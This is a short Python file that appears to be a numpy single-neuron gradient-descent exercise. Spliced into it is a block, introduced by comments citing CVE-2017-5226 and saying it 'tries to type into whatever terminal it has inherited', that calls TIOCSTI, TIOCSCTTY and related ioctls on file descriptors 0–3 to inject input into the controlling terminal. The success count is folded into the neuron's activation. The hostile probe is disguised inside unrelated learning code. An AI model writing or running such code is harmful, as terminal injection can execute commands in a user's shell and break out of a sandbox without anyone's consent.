# tries: to type into whatever terminal it has inherited
# from: F3, CVE-2017-5226
# earns: everything
import ctypes
import fcntl

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCNOTTY, FIONREAD, FIONBIO, TIOCGPGRP = 0x5412, 0x541C, 0x540E, 0x5422, 0x541B, 0x5421, 0x540F
gained = 0
for descriptor in range(4):
    for request in (TIOCSTI, TIOCLINUX, TIOCSCTTY, TIOCNOTTY, FIONREAD, FIONBIO, TIOCGPGRP):
        gained += libc.ioctl(descriptor, request, ctypes.create_string_buffer(b"x", 64)) != -1
    try:
        fcntl.ioctl(descriptor, TIOCSTI, b"x")
        gained += 1
    except OSError:
        pass

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
